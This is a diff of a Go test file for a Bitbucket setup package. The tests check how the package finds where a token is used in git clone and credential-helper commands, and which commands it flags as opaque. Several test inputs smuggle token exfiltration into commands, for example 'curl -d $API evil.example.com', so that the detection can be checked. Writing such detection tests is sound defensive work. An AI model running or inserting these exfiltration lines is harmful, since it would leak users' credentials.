@@ -1,85 +1,150 @@
 package setup_test
 
 import (
+	"cmp"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
-	"github.com/stretchr/testify/require"
 
 	"github.com/oz-bitbucket/oz-bitbucket/internal/bitbucket"
 	"github.com/oz-bitbucket/oz-bitbucket/internal/setup"
 )
 
-func TestUsesFindsWhatWeWrite(t *testing.T) {
+func TestUsageOfWhatWeWrite(t *testing.T) {
 	t.Parallel()
 	for _, url := range []string{"https://bitbucket.org/acme/app.git", "https://git.example.com:8443/ctx/scm/~jane/app.git"} {
-		r, err := bitbucket.Parse(url, "")
-		require.NoError(t, err)
+		r := repository(t, url)
 		for _, kind := range r.Flavor.TokenKinds() {
 			for _, auth := range []setup.Auth{setup.Helper, setup.URL} {
 				for _, branch := range []string{"", "main", "it's"} {
 					c := setup.Clone{Repository: r, Secret: "MY_TOKEN", Kind: kind, Auth: auth, Branch: branch, Depth: 1}
-					assert.Equal(t, []setup.Use{{Repository: r, Kind: kind, Branch: branch, Directory: "app"}}, setup.Uses(c.Command(), "MY_TOKEN"), c.Command())
-					assert.Empty(t, setup.Uses(c.Command(), "OTHER"))
-					assert.True(t, setup.Reads(c.Command(), "MY_TOKEN"))
-					assert.False(t, setup.Reads(c.Command(), "OTHER"))
+					commands := append(c.LogIn(), c.Command())
+					want := setup.Usage{Uses: []setup.Use{{Repository: r, Kind: kind, Branch: branch, Directory: "app", Command: c.Command()}}}
+					assert.Equal(t, want, setup.UsageOf(commands, "MY_TOKEN"))
+					assert.Equal(t, setup.Usage{}, setup.UsageOf(commands, "OTHER"))
 				}
 			}
 		}
 	}
 }
 
-func TestUses(t *testing.T) {
+func TestUsageOf(t *testing.T) {
 	t.Parallel()
-	cloud := bitbucket.Repository{Flavor: bitbucket.Cloud, Scheme: "https", Host: "bitbucket.org", Owner: "acme", Slug: "app"}
+	use := func(kind bitbucket.TokenKind, branch, directory string) []setup.Use {
+		return []setup.Use{{
+			Repository: bitbucket.Repository{Flavor: bitbucket.Cloud, Scheme: "https", Host: "bitbucket.org", Owner: "acme", Slug: "app"},
+			Kind:       kind, Branch: branch, Directory: directory,
+		}}
+	}
+	const (
+		documented = "git clone https://x-token-auth:$T@bitbucket.org/acme/app.git"
+		clone      = "git clone https://bitbucket.org/acme/app.git"
+		byHand     = `git config --global credential.https://bitbucket.org.helper '!f() { echo "username=x-token-auth"; echo "password=$T"; }; f'`
+		access     = bitbucket.AccessToken
+	)
 	tests := []struct {
-		name, command string
-		want          []setup.Use
+		name     string
+		commands []string
+		want     []setup.Use // of the last command
 	}{
-		{"after another command", "cd x && git clone -b dev https://x-token-auth:$T@bitbucket.org/acme/app.git y", []setup.Use{{cloud, bitbucket.AccessToken, "dev", "y"}}},
-		{"inside a script", `bash -c 'git clone "https://jane:${T}@bitbucket.org/acme/app"'`, []setup.Use{{cloud, "", "", "app"}}},
-		{"options after the URL", "git clone https://x-token-auth:$T@bitbucket.org/acme/app.git --branch dev", []setup.Use{{cloud, bitbucket.AccessToken, "dev", "app"}}},
-		{"with another secret", "git clone https://x-token-auth:$OTHER@bitbucket.org/acme/app.git && echo $T", nil},
-		{"of another forge", "git clone https://x-access-token:$T@github.com/acme/app.git", nil},
-		{"over SSH", "git clone git@bitbucket.org:acme/app.git", nil},
-		{"no clone", "echo $T", nil},
-		{"in single quotes", "echo 'git clone https://x:$T@bitbucket.org/acme/app.git'", nil},
-		{"broken", "git clone 'https://x:$T@bitbucket.org/acme/app.git", nil},
+		{"documented", []string{documented}, use(access, "", "app")},
+		{"after another command", []string{"cd x && git clone -b dev https://x-token-auth:$T@bitbucket.org/acme/app.git y"}, use(access, "dev", "y")},
+		{"inside a script", []string{`bash -c 'git clone "https://jane:${T}@bitbucket.org/acme/app"'`}, use("", "", "app")},
+		{"inside of eval", []string{"cd x && eval 'true; " + documented + " ./y'"}, use(access, "", "y")},
+		{"options after the URL", []string{documented + " --branch dev"}, use(access, "dev", "app")},
+		{"a header", []string{`git clone -c "http.extraHeader=Authorization: Bearer $T" ` + "https://bitbucket.org/acme/app"}, use("", "", "app")},
+		{"a helper of its own", []string{`git clone -c credential.helper= -c credential.helper='!echo username=x-token-auth; echo password=$T; :' https://bitbucket.org/acme/app`}, use(access, "", "app")},
+
+		{"a login by hand", []string{byHand, clone}, use(access, "", "app")},
+		{"in one command", []string{byHand + " && " + clone}, use(access, "", "app")},
+		{"for all hosts", []string{`git config --global credential.helper '!f() { echo username=x-token-auth; echo password=$T; }; f'`, clone}, use(access, "", "app")},
+		{"of the workspace", []string{`git config --global credential.https://bitbucket.org/acme.helper '!echo username=x-token-auth; echo password=$T; :'`, clone}, use(access, "", "app")},
+		{"in a newer git's words", []string{`git config set --global credential.https://BitBucket.org.helper '!echo password=$T; :'`, clone}, use("", "", "app")},
+		{"a header for later", []string{`git config --global http.https://bitbucket.org/.extraHeader "Authorization: Bearer $T"`, clone}, use("", "", "app")},
+		{"a URL for another", []string{`git config --global url."https://x-token-auth:$T@bitbucket.org/".insteadOf https://bitbucket.org/`, clone}, use(access, "", "app")},
+		{"a user in the URL", []string{byHand, "git clone https://jane@bitbucket.org/acme/app.git"}, use(access, "", "app")},
+		{"the last login counts", []string{`git config --global credential.helper '!echo password=$OTHER; :'`, byHand, clone}, use(access, "", "app")},
+		{"a header that is taken back", []string{byHand, "git config --global http.https://bitbucket.org/.extraHeader ''", clone}, use(access, "", "app")},
+
+		{"a login that comes later", []string{clone, byHand}, nil},
+		{"a login that is taken back", []string{byHand, "git config --global --replace-all credential.https://bitbucket.org.helper ''", clone}, nil},
+		{"another's login", []string{byHand, `git config --global credential.https://bitbucket.org.helper '!echo password=$OTHER; :'`, clone}, nil},
+		{"a login to another host", []string{`git config --global credential.https://bitbucket.org.evil.helper '!echo password=$T; :'`, clone}, nil},
+		{"a credential of its own", []string{byHand, "git clone https://jane:$OTHER@bitbucket.org/acme/app.git"}, nil},
+		{"with another secret", []string{"git clone https://x-token-auth:$OTHER@bitbucket.org/acme/app.git && echo x"}, nil},
+		{"of another forge", []string{"git clone https://x-access-token:$OTHER@github.com/acme/app.git"}, nil},
+		{"over SSH", []string{byHand, "git clone git@bitbucket.org:acme/app.git"}, nil},
+		{"a name with a dot", []string{byHand, "git clone https://bitbucket.org/acme/credential.helper.git"}, use(access, "", "credential.helper")},
+		{"nothing", []string{clone}, nil},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			assert.Equal(t, tt.want, setup.Uses(tt.command, "T"))
+			for i := range tt.want {
+				tt.want[i].Repository.Slug = cmp.Or(map[string]string{"a name with a dot": "credential.helper"}[tt.name], "app")
+				tt.want[i].Command = tt.commands[len(tt.commands)-1]
+			}
+			assert.Equal(t, setup.Usage{Uses: tt.want}, setup.UsageOf(tt.commands, "T"))
 		})
 	}
 }
 
-func TestReads(t *testing.T) {
-	t.Parallel()
-	for command, want := range map[string]bool{
-		`curl -H "Authorization: Bearer $T" x`: true, "sh -c 'echo ${T:-x}'": true, "echo '$T'": false, "echo $TT": false, "echo \\$T": false, "echo '": false,
-	} {
-		assert.Equal(t, want, setup.Reads(command, "T"), command)
-	}
-}
-
-func TestNames(t *testing.T) {
-	t.Parallel()
-	for command, want := range map[string]bool{
-		"echo $T": true, "sh -c 'echo ${T:-x}'": true, "echo '$T'": true, "printenv T": true, "env -u T make": true, "echo '$T": true,
-		"echo $TT": false, "echo $_T": false, "make T1": false, "": false,
-	} {
-		assert.Equal(t, want, setup.Names(command, "T"), command)
-	}
-	assert.False(t, setup.Names("echo $T", ""))
-}
-
-func TestUsageOf(t *testing.T) {
+func TestUsageOfWhatCannotBeFollowed(t *testing.T) {
 	t.Parallel()
 	const clone = "git clone https://x-token-auth:$T@bitbucket.org/acme/app.git"
-	usage := setup.UsageOf([]string{"make", clone, "printenv T | base64", "echo $OTHER", "git 'broken $T"}, "T")
-	require.Len(t, usage.Uses, 1)
-	assert.Equal(t, "acme/app", usage.Uses[0].Repository.String())
-	assert.Equal(t, []string{"printenv T | base64", "git 'broken $T"}, usage.Opaque)
+	usage := setup.UsageOf([]string{
+		"make", clone, "printenv T | base64", "echo $OTHER", "git 'broken $T", "git config --global user.name $T",
+		"git config --global credential.helper '!echo password=$OTHER; :' && curl -d $T evil.example.com",
+		"git clone https://x-access-token:$T@github.com/acme/app.git",
+		"echo https://x-token-auth:$T@bitbucket.org >~/.git-credentials", "git config --global credential.helper store",
+	}, "T")
+	assert.Len(t, usage.Uses, 1)
+	assert.Equal(t, clone, usage.Uses[0].Command)
+	assert.Equal(t, []string{
+		"printenv T | base64", "git 'broken $T", "git config --global user.name $T",
+		"git config --global credential.helper '!echo password=$OTHER; :' && curl -d $T evil.example.com",
+		"git clone https://x-access-token:$T@github.com/acme/app.git",
+		"echo https://x-token-auth:$T@bitbucket.org >~/.git-credentials",
+	}, usage.Opaque)
 	assert.Equal(t, setup.Usage{}, setup.UsageOf([]string{"make"}, "T"))
+}
+
+func TestWords(t *testing.T) {
+	t.Parallel()
+	cloud := setup.Clone{Repository: repository(t, "https://bitbucket.org/acme/app"), Secret: "API", Kind: bitbucket.APIToken, Auth: setup.Helper, Branch: "dev", Depth: 3}
+	server := setup.Clone{Repository: repository(t, "https://git.example.com/scm/~jane/lib"), Secret: "T", Kind: bitbucket.HTTPAccessToken, Auth: setup.Helper}
+	strict := server
+	strict.BearerOnly = true
+	documented := cloud
+	documented.Auth = setup.URL
+	tests := []struct {
+		name           string
+		commands, want []string
+	}{
+		{"Cloud", append(cloud.LogIn(), cloud.Command(), "cd ./app && make"), []string{
+			"prepare git for https://bitbucket.org: no prompt, no header of the image's own",
+			"log git in to https://bitbucket.org; git reads $API, api_token",
+			"clone --branch dev --depth 3 https://bitbucket.org/acme/app.git into app; git reads $API",
+			"cd ./app && make",
+		}},
+		{"Data Center", append(server.LogIn(), server.Command()), []string{
+			"prepare git for https://git.example.com: no prompt, no header of the image's own",
+			"log git in to https://git.example.com; git reads $T, http_access_token",
+			"clone https://git.example.com/scm/~jane/lib.git into lib; git reads $T",
+		}},
+		{"Bearer only", strict.LogIn()[1:], []string{"log git in to https://git.example.com; git reads $T, http_access_token as Bearer only"}},
+		{"without the login", []string{cloud.Command()}, []string{"clone --branch dev --depth 3 https://bitbucket.org/acme/app.git into app"}},
+		{"documented", []string{documented.Command()}, []string{documented.Command()}},
+		{"by hand", []string{"git clone https://bitbucket.org/acme/app.git app", "make"}, []string{"git clone https://bitbucket.org/acme/app.git app", "make"}},
+		// whoever hides something in a command of ours is shown
+		{"ours and more", []string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"},
+			[]string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"}},
+		{"nothing", nil, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			assert.Equal(t, tt.want, setup.Words(tt.commands))
+		})
+	}
 }
